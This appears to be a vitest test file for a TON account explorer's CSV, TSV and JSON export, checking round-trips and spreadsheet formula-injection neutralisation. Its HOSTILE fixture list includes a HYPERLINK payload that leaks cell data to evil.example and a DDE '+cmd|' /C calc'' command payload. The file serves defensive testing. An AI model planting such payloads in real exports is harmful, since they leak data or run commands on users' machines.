/**
 * CSV, TSV and JSON exports parse back to the same data through real parsers (papaparse, JSON.parse +
 * the document schema), and no text from the indexer reaches a spreadsheet as a formula.
 */
import { Address } from '@ton/core';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  HUGE_BALANCE,
  notIndexedAddresses,
  sampleAccount,
  sampleAccounts,
  startIndexServer,
  type RunningIndexServer,
} from '../../local-index-server';
import { parseAddressList } from '../address/address-list';
import { accountLookupSchema } from '../api/account-states';
import { checkedLookup } from '../../test-support/checked-lookup';
import { createIndexClient } from '../client/index-client';
import { AppError } from '../errors';
import { rowsOf } from '../../test-support/lookup-rows';
import { exportColumns, exportRecords, type ExportRecord } from './export-record';
import { cellText, exportDocumentSchema, toCsv, toJson, toTsv } from './export-formats';
import { readCsvRecords } from '../../test-support/export-read-back';
import { isInertCell, needsNeutralising, neutraliseCell, restoreCell } from '../format/spreadsheet-safety';

/** What a spreadsheet would evaluate: a formula trigger (after spaces too), full-width ones, or a leading tab/CR/LF. */
const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/u;
/** The one formula a cell may hold: a string literal of letters, digits and `+ / = _ : . -`, which shows itself. */
const TEXT_LITERAL = /^="[A-Za-z0-9+/=_:.-]+"$/;
/** A cell that evaluates nothing in a spreadsheet. */
const inert = (cell: string) => !FORMULA_START.test(cell) || TEXT_LITERAL.test(cell);

/** Text an indexer could send in a token name, symbol or domain, aimed at a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click to claim")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '=1+2\nsecond line',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '＝1+1',
  "'=already quoted",
  "'plain quote",
  '"quoted", with a comma',
  'line one\r\nline two',
  'a,b;c\td',
  'Tether 💵 USD₮ — ünïcödé 中文',
  ' padded ',
];

let server: RunningIndexServer;
let serverRecords: ExportRecord[];

beforeAll(async () => {
  server = await startIndexServer({ port: 0 });
  const accounts = [
    ...sampleAccounts().map((s) => ({ raw: s.raw, input: s.friendly })),
    ...notIndexedAddresses().map((raw) => ({ raw, input: raw })),
  ];
  const result = await createIndexClient({ baseUrl: server.url }).accountStatesRequest(
    accounts.map((a) => a.raw),
    { includeBoc: false },
  );
  serverRecords = exportRecords(rowsOf(accounts, result), 'mainnet');
});
afterAll(() => server.close());

/** The raw address of a made-up account number `n` on workchain `wc`. */
const madeUpRaw = (n: number, wc: 0 | -1 = 0) => `${wc}:${n.toString(16).toUpperCase().padStart(64, '0')}`;

/**
 * An answer in which every hostile text is a jetton master's name and symbol, an address-book domain
 * and what the user typed — the untrusted fields of an export.
 */
function hostileRecords(texts: readonly string[]): ExportRecord[] {
  const raws = texts.map((_, i) => madeUpRaw(i + 1, i % 2 === 0 ? 0 : -1));
  const result = accountLookupSchema.parse({
    accounts: raws.map((raw, i) => ({
      address: raw,
      account_state_hash: 'A'.repeat(43) + '=',
      balance: (10n ** 20n + BigInt(i)).toString(),
      extra_currencies: { '7': '1' },
      status: 'active',
      last_transaction_hash: '+'.repeat(43) + '=',
      last_transaction_lt: '47000000000001',
      code_hash: '-'.repeat(43) + '=',
      interfaces: ['jetton_master'],
    })),
    address_book: Object.fromEntries(
      raws.map((raw, i) => [raw, { user_friendly: 'x', domain: texts[i], interfaces: [] }]),
    ),
    metadata: Object.fromEntries(
      raws.map((raw, i) => [
        raw,
        {
          is_indexed: true,
          token_info: [
            { type: 'jetton_masters', name: texts[i], symbol: texts[i], extra: { decimals: '9' } },
          ],
        },
      ]),
    ),
    not_found: [],
  });
  return exportRecords(
    rowsOf(
      raws.map((raw, i) => ({ raw, input: texts[i]! })),
      checkedLookup(result),
    ),
    'mainnet',
  );
}

/** Parses CSV or TSV with papaparse and checks the header. Returns the data rows. */
function parseTable(text: string, delimiter: ',' | '\t'): string[][] {
  const parsed = Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data[0]).toEqual(exportColumns());
  return parsed.data.slice(1);
}

describe('toCsv', () => {
  it('parses back through papaparse to the same data for every record of a real lookup', () => {
    const csv = toCsv(serverRecords);
    const rows = parseTable(csv, ',');
    expect(rows).toHaveLength(serverRecords.length);
    rows.forEach((cells, i) => {
      exportColumns().forEach((column, c) =>
        expect(restoreCell(cells[c]!)).toBe(cellText(serverRecords[i]![column])),
      );
    });
    expect(readCsvRecords(csv)).toEqual(serverRecords);
  });

  it('ends every line with CRLF and nothing else', () => {
    const csv = toCsv(serverRecords);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(serverRecords.length + 2);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes arrays and maps as compact JSON, and amounts beyond 2^53 as exact text', () => {
    const rows = parseTable(toCsv(serverRecords), ',');
    const cell = (label: Parameters<typeof sampleAccount>[0], column: keyof ExportRecord) =>
      rows[serverRecords.findIndex((r) => r.raw === sampleAccount(label).raw)]![
        exportColumns().indexOf(column)
      ];
    expect(cell('extra-currencies', 'extra_currencies')).toBe('{"100":"5000000","239":"1000000000000"}');
    expect(cell('wallet-v4r2', 'interfaces')).toBe('["wallet_v4r2"]');
    expect(cell('huge-balance', 'balance_nanoton')).toBe(HUGE_BALANCE);
    expect(cell('huge-balance', 'balance_ton')).toBe('5000000000.123456789');
    expect(cell('jetton-wallet-1', 'is_scam')).toBe('false');
    expect(cell('jetton-wallet-1', 'token_decimals')).toBe('6');
  });

  it('neutralises every hostile indexer text and reads it back unchanged', () => {
    const records = hostileRecords(HOSTILE);
    const csv = toCsv(records);
    const rows = parseTable(csv, ',');
    expect(rows).toHaveLength(HOSTILE.length);
    for (const cells of rows) for (const cell of cells) expect(inert(cell), cell).toBe(true);
    const nameColumn = exportColumns().indexOf('token_name');
    expect(rows[0]![nameColumn]).toBe(`'${HOSTILE[0]}`);
    // Made only of letters, digits and + - : the text itself, as a string literal (shown exactly, not computed).
    expect(rows[2]![nameColumn]).toBe('="-2+3"');
    expect(rows[HOSTILE.indexOf("'plain quote")]![nameColumn]).toBe("'plain quote");
    expect(rows[HOSTILE.indexOf("'=already quoted")]![nameColumn]).toBe("''=already quoted");
    expect(readCsvRecords(csv)).toEqual(records);
    for (const [i, text] of HOSTILE.entries())
      expect(records[i]).toMatchObject({ input: text, token_name: text, token_symbol: text, domain: text });
  });

  it('writes hashes that start with + or - as text formulas: no quote is added to the hash, and it reads back exactly', () => {
    const records = hostileRecords(['x']);
    const rows = parseTable(toCsv(records), ',');
    expect(rows[0]![exportColumns().indexOf('last_transaction_hash')]).toBe(`="${'+'.repeat(43)}="`);
    expect(rows[0]![exportColumns().indexOf('code_hash')]).toBe(`="${'-'.repeat(43)}="`);
    expect(readCsvRecords(toCsv(records))[0]).toMatchObject({
      last_transaction_hash: `${'+'.repeat(43)}=`,
      code_hash: `${'-'.repeat(43)}=`,
    });
  });

  it('a real hash beginning with +, - or = comes back unchanged from CSV and from "Copy for spreadsheet"', () => {
    const hashes = [
      '+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
      '-Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
      '=Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
    ];
    const records = hostileRecords(hashes.map(() => 'x')).map((r, i) => ({
      ...r,
      last_transaction_hash: hashes[i]!,
      data_hash: hashes[i]!,
    }));
    expect(readCsvRecords(toCsv(records)).map((r) => [r.last_transaction_hash, r.data_hash])).toEqual(
      hashes.map((h) => [h, h]),
    );
    const pasted = parseTable(toTsv(records), '\t').map((cells) =>
      restoreCell(cells[exportColumns().indexOf('last_transaction_hash')]!),
    );
    expect(pasted).toEqual(hashes);
    // Before this rule, the cell held a quote in front of the hash ('+Ycxjy…), which spreadsheets keep.
    for (const cells of parseTable(toTsv(records), '\t'))
      expect(cells[exportColumns().indexOf('last_transaction_hash')]).not.toMatch(/^'/);
  });

  it('writes a masterchain raw address as ="-1:…": shown and copied exactly by a spreadsheet, restored exactly, and found by the paste box', () => {
    const masterchain = serverRecords.find((r) => r.raw === sampleAccount('masterchain-wallet').raw)!;
    const rows = parseTable(toCsv(serverRecords), ',');
    const cells = rows[serverRecords.indexOf(masterchain)]!;
    const rawCell = cells[exportColumns().indexOf('raw')]!;
    expect(rawCell).toBe(`="${masterchain.raw}"`);
    expect(inert(rawCell)).toBe(true);
    expect(restoreCell(rawCell)).toBe(masterchain.raw);
    // The cell's text pasted into the app's paste box (which reads prose) still gives the same account.
    const pasted = parseAddressList(rawCell, { read: 'prose' });
    expect(pasted.summary).toMatchObject({ valid: 1, invalid: 0 });
    expect(pasted.unique[0]!.raw).toBe(masterchain.raw);
    // The same account's user-friendly forms need no quote at all.
    expect(cells[exportColumns().indexOf('bounceable')]).toBe(masterchain.bounceable);
    expect(cells[exportColumns().indexOf('non_bounceable')]).toBe(masterchain.non_bounceable);
  });

  it('can start with a byte-order mark for Excel, and still reads back', () => {
    const csv = toCsv(serverRecords, { bom: true });
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(readCsvRecords(csv)).toEqual(serverRecords);
  });

  it("appends the columns the table showed beyond the record (kind, the user's label, decoded fields), neutralised and read back exactly", () => {
    const records = hostileRecords(['a', 'b', 'c']);
    const extra = [
      { header: 'Kind', values: ['wallet v4r2', undefined, 'jetton wallet'] },
      { header: 'Your label', values: ['=HYPERLINK("http://evil.example")', 'Alice, "main"', '+1 555'] },
    ];
    const rows = Papa.parse<string[]>(toCsv(records, { extra }), { skipEmptyLines: true }).data;
    expect(rows[0]!.slice(-2)).toEqual(['Kind', 'Your label']);
    expect(rows[0]!.slice(0, -2)).toEqual([...exportColumns()]);
    expect(rows.slice(1).map((r) => r.slice(-2).map(restoreCell))).toEqual([
      ['wallet v4r2', '=HYPERLINK("http://evil.example")'],
      ['', 'Alice, "main"'],
      ['jetton wallet', '+1 555'],
    ]);
    for (const row of rows) for (const cell of row) expect(inert(cell), cell).toBe(true);
    const tsv = toTsv(records, extra)
      .trimEnd()
      .split('\r\n')
      .map((line) => line.split('\t'));
    expect(tsv[0]!.slice(-2)).toEqual(['Kind', 'Your label']);
    expect(tsv[1]!.at(-2)).toBe('wallet v4r2');
  });

  it('writes only the header for no records', () => {
    expect(toCsv([])).toBe(`${exportColumns().join(',')}\r\n`);
    expect(readCsvRecords(toCsv([]))).toEqual([]);
  });

  it('refuses a file that is not an export, naming what is wrong', () => {
    expect(() => readCsvRecords('a,b\r\n1,2\r\n')).toThrow(AppError);
    const csv = toCsv(serverRecords.slice(0, 1)).replace(/,\{\}/, ',{broken');
    expect(() => readCsvRecords(csv)).toThrow(/Row 2/);
  });
});

describe('toTsv', () => {
  it('gives one line per record, tabs only between cells, CRLF endings, the same neutralisation', () => {
    const records = [...serverRecords, ...hostileRecords(HOSTILE)];
    const tsv = toTsv(records);
    expect(tsv.split('\r\n')).toHaveLength(records.length + 2);
    expect(tsv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = parseTable(tsv, '\t');
    expect(rows).toHaveLength(records.length);
    rows.forEach((cells, i) => {
      expect(cells).toHaveLength(exportColumns().length);
      exportColumns().forEach((column, c) => {
        expect(inert(cells[c]!), cells[c]).toBe(true);
        const expected = cellText(records[i]![column]).replace(/\r\n|[\t\r\n]/g, ' ');
        expect(restoreCell(cells[c]!)).toBe(expected);
      });
    });
    const hostileRow = rows[serverRecords.length + HOSTILE.indexOf('=1+2\nsecond line')]!;
    expect(hostileRow[exportColumns().indexOf('token_name')]).toBe("'=1+2 second line");
  });
});

describe('toJson', () => {
  const meta = {
    exportedAt: '2026-11-23T10:15:00.000Z',
    network: 'mainnet' as const,
    indexer: 'http://analyst:s3cret@127.0.0.1:8787/api/v3?api_key=SECRET-KEY#frag',
    profile: 'Local indexer',
    lastBlock: { seqno: 38016643, gen_utime: '1721068768' },
  };

  it('parses back through the document schema to the same records, with where and when they came from', () => {
    const text = toJson(serverRecords, meta);
    const document = exportDocumentSchema.parse(JSON.parse(text));
    expect(document).toMatchObject({
      format: 'ton-index-explorer/accounts',
      version: 1,
      exportedAt: '2026-11-23T10:15:00.000Z',
      network: 'mainnet',
      indexer: 'http://127.0.0.1:8787/api/v3',
      profile: 'Local indexer',
      lastBlock: { seqno: 38016643, gen_utime: '1721068768' },
      count: serverRecords.length,
    });
    expect(document.records).toEqual(serverRecords);
  });

  it('never writes a key, a password or a query string of the indexer address', () => {
    const text = toJson(serverRecords, meta);
    expect(text).not.toMatch(/SECRET-KEY|s3cret|analyst|api_key|frag/);
  });

  it('keeps amounts beyond 2^53 as exact text, and hostile text as plain JSON strings', () => {
    const records = [...serverRecords, ...hostileRecords(HOSTILE)];
    const text = toJson(records, { ...meta, lastBlock: null });
    expect(text).toContain(`"balance_nanoton": "${HUGE_BALANCE}"`);
    const document = exportDocumentSchema.parse(JSON.parse(text));
    expect(document.records).toEqual(records);
    expect(document.lastBlock).toBeNull();
    expect(document.records.at(-HOSTILE.length)!.token_name).toBe(HOSTILE[0]);
  });

  it('stamps the current time when none is given, and refuses unusable details', () => {
    const before = Date.now();
    const document = exportDocumentSchema.parse(
      JSON.parse(toJson([], { network: 'testnet', indexer: 'https://testnet.toncenter.com' })),
    );
    expect(Date.parse(document.exportedAt)).toBeGreaterThanOrEqual(before - 1000);
    expect(document).toMatchObject({
      indexer: 'https://testnet.toncenter.com',
      lastBlock: null,
      count: 0,
      records: [],
    });
    expect(() => toJson([], { network: 'devnet' as 'mainnet', indexer: 'https://x' })).toThrow(AppError);
    expect(() => toJson([], { network: 'mainnet', indexer: 'not a url' })).toThrow(/not a URL/);
  });
});

describe('properties', () => {
  /** Strings rich in what breaks CSV and spreadsheets, plus arbitrary Unicode. */
  const nasty = fc.oneof(
    fc.string({
      unit: fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '"',
        ',',
        "'",
        ' ',
        ';',
        'a',
        '1',
        '₮',
        '💵',
        '＝',
        '\u00a0',
        '\uFEFF',
      ),
    }),
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: 'binary' }),
  );

  it('neutraliseCell never leaves a formula but a plain string literal, and restoreCell undoes it exactly', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const cell = neutraliseCell(text);
        expect(inert(cell), cell).toBe(true);
        expect(isInertCell(cell)).toBe(true);
        expect(restoreCell(cell)).toBe(text);
        expect(cell === text).toBe(!needsNeutralising(text));
      }),
      { numRuns: 2000 },
    );
  });

  it('writes a text formula only for short text of letters, digits and + / = _ : . -; anything else gets the quote', () => {
    expect(neutraliseCell('+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=')).toBe(
      '="+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE="',
    );
    expect(neutraliseCell(`+${'A'.repeat(255)}`)).toBe(`'+${'A'.repeat(255)}`); // past Excel's 255 characters of text in a formula
    expect(neutraliseCell('=1+2 ')).toBe("'=1+2 ");
    expect(neutraliseCell('-1:"x"')).toBe(`'-1:"x"`);
    expect(isInertCell('="=1+2"')).toBe(true);
    expect(isInertCell('=1+2')).toBe(false);
    expect(isInertCell('="a"&"b"')).toBe(false);
    expect(restoreCell('="plain"')).toBe('="plain"'); // never written by us for text without a trigger
  });

  it('any indexer text round-trips through CSV and JSON', () => {
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1, maxLength: 8 }), (texts) => {
        const records = hostileRecords(texts);
        expect(readCsvRecords(toCsv(records))).toEqual(records);
        const document = exportDocumentSchema.parse(
          JSON.parse(toJson(records, { network: 'mainnet', indexer: 'http://127.0.0.1:8787' })),
        );
        expect(document.records).toEqual(records);
      }),
      { numRuns: 200 },
    );
  });

  it('user-friendly forms never need neutralising, on either workchain and network', () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ minLength: 32, maxLength: 32 }),
        fc.constantFrom(0, -1),
        (hash, workchain) => {
          const address = new Address(workchain, Buffer.from(hash));
          for (const bounceable of [true, false]) {
            for (const testOnly of [true, false])
              expect(needsNeutralising(address.toString({ urlSafe: true, bounceable, testOnly }))).toBe(
                false,
              );
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('metadata states in exports (the local index server’s metadata-states mode)', () => {
  it('carries pending, unreadable, scam and NSFW as columns that read back exactly', async () => {
    const labels = ['wallet-v4r2', 'wallet-v5r1', 'nft-item', 'contract-no-interface'] as const;
    // The mode gives the states in the order of the raw addresses.
    const accounts = labels
      .map((label) => ({ raw: sampleAccount(label).raw, input: sampleAccount(label).friendly }))
      .sort((x, y) => (x.raw < y.raw ? -1 : 1));
    server.setFaults({ mode: 'metadata-states' });
    try {
      const result = await createIndexClient({ baseUrl: server.url }).accountStatesRequest(
        accounts.map((a) => a.raw),
        { includeBoc: false },
      );
      const records = exportRecords(rowsOf(accounts, result), 'mainnet');
      const states = records.map((r) => [r.metadata_pending, r.metadata_invalid, r.is_scam, r.is_nsfw]);
      expect(states).toEqual([
        [true, false, false, false],
        [false, true, false, false],
        [false, false, true, false],
        [false, false, false, true],
      ]);
      expect(records[0]!.token_kind).toBeNull();
      expect(readCsvRecords(toCsv(records))).toEqual(records);
      const rows = parseTable(toCsv(records), ',');
      expect(rows.map((row) => row[exportColumns().indexOf('metadata_pending')])).toEqual([
        'true',
        'false',
        'false',
        'false',
      ]);
      expect(rows.map((row) => row[exportColumns().indexOf('is_nsfw')])).toEqual([
        'false',
        'false',
        'false',
        'true',
      ]);
    } finally {
      server.setFaults({ mode: 'none' });
    }
  });
});
